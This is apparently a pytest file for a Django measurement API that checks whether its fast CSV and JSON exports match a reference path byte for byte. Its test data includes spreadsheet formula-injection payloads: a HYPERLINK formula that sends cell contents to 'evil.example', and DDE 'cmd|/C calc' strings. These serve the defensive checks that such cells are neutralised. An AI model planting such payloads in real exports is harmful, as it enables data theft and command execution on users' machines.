"""The fast measurement exports give what the slow, obvious paths give, byte for byte.

The reference is the Python path: `MeasurementTable` rows through `csv_cell` and `stream_csv` for
CSV, `MeasurementSerializer` for JSON. The fast paths are PostgreSQL's COPY (the SELECT formats and
neutralises every cell itself), the plain-cursor path other databases use, and the JSON row builder.
The data is chosen to hit every formatting rule: formula triggers and plain numbers in text, quotes,
commas, CR/LF and tabs in comments, Danish letters, empty text, a value that rounds on a tie, a
month with nothing to report, times with and without a fraction, several organisations.
"""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.db import connection

from lkt.api import stream_csv, stream_text_rows
from measures.api import MEASUREMENT_COLUMNS, MEASUREMENT_VALUES, MeasurementSerializer, MeasurementTable
from measures.api.entry_export import measurement_csv_chunks, measurement_text_rows
from measures.models import Measurement
from teams.models import ApiToken, Organisation, Team

pytestmark = pytest.mark.django_db

URL = "/api/v1/measurements/"
postgres_only = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's; other databases use the fast path"
)

COMMENTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-12.5",
    "+3",
    "1e5",
    "-1E-3",
    "-1e-3x",
    "",
    'citat " inde i',
    "komma, her",
    "ny\nlinje",
    "cr\rher",
    "crlf\r\nher",
    "tab\ti midten",
    "Ærø Ødsted Århus",
    "'allerede",
    " mellemrum foran",
    "\\.",
    "-٣",  # a non-ASCII digit is not a plain number
]


@pytest.fixture
def messy(world):
    rows = list(Measurement.objects.filter(team=world.team_a).order_by("period"))
    for measurement, comment in zip(rows, COMMENTS, strict=False):
        measurement.comment = comment
    rows[0].numerator, rows[0].denominator = Decimal("1"), Decimal("12800")  # 0.0078125: a tie
    rows[1].numerator, rows[1].denominator = Decimal("2"), Decimal("3")  # 66.666666...
    rows[2].numerator, rows[2].denominator = Decimal("1234567890.1234"), Decimal("0.0001")
    rows[3].numerator, rows[3].denominator = Decimal("0"), Decimal("7")
    rows[4].numerator, rows[4].denominator, rows[4].nothing_to_report = None, None, True
    rows[5].numerator, rows[5].denominator = Decimal("0.0001"), Decimal("1")
    rows[6].numerator, rows[6].denominator = Decimal("1"), Decimal("0.0003")
    Measurement.objects.bulk_update(rows, ["comment", "numerator", "denominator", "nothing_to_report"])
    # One time without a fraction, one with a fraction that ends in zeros.
    Measurement.objects.filter(id=rows[7].id).update(
        updated_at=datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC),
        synced_at=datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC),
    )
    Measurement.objects.filter(id=rows[8].id).update(
        synced_at=datetime(2025, 1, 2, 3, 4, 5, 100000, tzinfo=UTC)
    )
    for text in ("Zeta sygehus", "=Æblehospital", "alfa klinik", "Åby"):
        world.team_a.organisations.add(
            Organisation.objects.create(name=text, kind="hospital", sector="region", region=world.hovedstaden)
        )
    world.team_a.name = '-Afsnit, "B"\n2'
    world.team_a.save()
    Measurement.objects.create(
        team=world.team_b,
        indicator=world.count_indicator,
        period=date(2024, 1, 1),
        numerator=Decimal("3"),
        denominator=Decimal("8"),
        indicator_version=1,
        comment="@b",
    )
    world.count_indicator.unit = "=%"
    world.count_indicator.save()
    return world


def _python_csv(teams, queryset) -> bytes:
    """The reference: what the API's CSV was before the fast paths (MeasurementTable + csv_cell)."""
    table = MeasurementTable(teams)
    rows = queryset.order_by("synced_at", "uuid").values_list(*MEASUREMENT_VALUES)
    return b"".join(stream_csv(MEASUREMENT_COLUMNS, (table.row(values) for values in rows)))


def _network_selection(world):
    teams = Team.objects.visible_to_token(ApiToken(network=world.network))
    return teams, Measurement.objects.filter(team__in=teams)


def test_the_api_csv_is_byte_identical_to_the_python_path(messy, make_token, token_client, monkeypatch):
    import lkt.api

    copies = []
    real_copy = lkt.api.stream_copy
    monkeypatch.setattr(lkt.api, "stream_copy", lambda *a, **k: copies.append(a) or real_copy(*a, **k))
    teams, queryset = _network_selection(messy)
    response = token_client(make_token()).get(URL, {"format": "csv"})
    body = b"".join(response.streaming_content)
    assert len(copies) == (connection.vendor == "postgresql")
    assert body == _python_csv(teams, queryset)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))
    assert len(rows) == 25
    by_comment = {row["comment"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in by_comment
    assert {"-12.5", "+3", "1e5", "-1E-3", "'-1e-3x", "crlf\r\nher", "'\r=1+1"} <= by_comment
    assert {row["value"] for row in rows if row["numerator"] == "1" and row["denominator"] == "12800"} == {
        "0.007813"
    }
    assert {row["unit"] for row in rows if row["indicator"] == "reassessed"} == {"'=%"}


@pytest.mark.parametrize(
    "params", [{"team": "team-b"}, {"period_from": "2024-03", "period_to": "2024-05"}, {"team": "nobody"}]
)
def test_filtered_csv_is_byte_identical_to_the_python_path(messy, make_token, token_client, params):
    teams, queryset = _network_selection(messy)
    response = token_client(make_token()).get(URL, {"format": "csv", **params})
    from measures.filters import MeasurementFilter

    filtered = MeasurementFilter(params, queryset=queryset).qs
    assert b"".join(response.streaming_content) == _python_csv(teams, filtered)


def test_a_region_token_and_a_session_user_get_their_own_rows(messy, make_token, token_client, client_for):
    region_teams = Team.objects.filter(network=messy.network, region=messy.midtjylland)
    body = b"".join(
        token_client(make_token(region=messy.midtjylland)).get(URL, {"format": "csv"}).streaming_content
    )
    assert body == _python_csv(region_teams, Measurement.objects.filter(team__in=region_teams))
    # A user who sees no team gets the header only (an empty scope by construction).
    body = b"".join(client_for(messy.stranger).get(URL, {"format": "csv"}).streaming_content)
    assert body == (",".join(MEASUREMENT_COLUMNS) + "\n").encode()


def test_the_plain_cursor_path_is_byte_identical_to_the_python_path(messy):
    teams, queryset = _network_selection(messy)
    fast = b"".join(stream_text_rows(MEASUREMENT_COLUMNS, measurement_text_rows(queryset, teams)))
    assert fast == _python_csv(teams, queryset)
    # ... and it is what the API serves where there is no COPY.
    assert b"".join(measurement_csv_chunks(MEASUREMENT_COLUMNS, queryset, teams)) == fast


@postgres_only
def test_a_client_that_goes_away_mid_copy_leaves_the_connection_usable(messy):
    teams, queryset = _network_selection(messy)
    Measurement.objects.bulk_create(
        Measurement(
            team=messy.team_b,
            indicator=messy.indicator,
            period=date(2000 + i // 12, i % 12 + 1, 1),
            numerator=Decimal(i),
            denominator=Decimal(1000),
            indicator_version=1,
            comment="x" * 200,
        )
        for i in range(1200)
    )
    chunks = measurement_csv_chunks(MEASUREMENT_COLUMNS, queryset, teams)
    assert next(chunks)
    chunks.close()
    assert Measurement.objects.filter(team=messy.team_b).count() == 1201


def test_json_rows_are_what_the_serializer_writes(messy, make_token, token_client):
    teams, queryset = _network_selection(messy)
    table = MeasurementTable(teams)
    expected = [
        dict(MeasurementSerializer(dict(zip(MEASUREMENT_COLUMNS, table.row(values), strict=True))).data)
        for values in queryset.order_by("synced_at", "uuid").values_list(*MEASUREMENT_VALUES)
    ]
    client = token_client(make_token())
    url, params, served = URL, {"page_size": 7}, []
    while url:
        body = client.get(url, params).json()
        assert list(body) == ["next", "results"]
        served.extend(body["results"])
        url, params = body["next"], None
    assert served == expected
    assert all(list(row) == MEASUREMENT_COLUMNS for row in served)
